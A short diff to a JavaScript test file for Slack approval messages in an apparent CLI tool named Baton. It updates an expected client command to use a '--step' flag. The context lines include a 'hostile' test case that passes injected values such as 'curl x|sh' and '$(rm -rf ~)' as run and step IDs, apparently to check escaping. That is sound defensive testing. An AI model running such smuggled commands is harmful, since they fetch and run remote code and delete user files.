@@ -141,7 +141,7 @@ void describe('Slack messages', () => {
     const text = mrkdwnTexts(ok.attachments[0].blocks).join('\n');
     assert.ok(text.includes('Baton: Approve Step'));
     assert.ok(text.includes('`baton approve 20261125-211900-k3f9 --step deploy`'));
-    assert.ok(text.includes('`python3 clients/python/baton_client.py approve 20261125-211900-k3f9 deploy`'));
+    assert.ok(text.includes('`python3 clients/python/baton_client.py approve 20261125-211900-k3f9 --step deploy`'));
     assert.ok(text.includes('1 h 0 min'));
 
     const hostile = buildMessage({ type: 'baton.approval.requested', runId: "r1; curl x|sh #'", stepId: '$(rm -rf ~)`', data: {} });
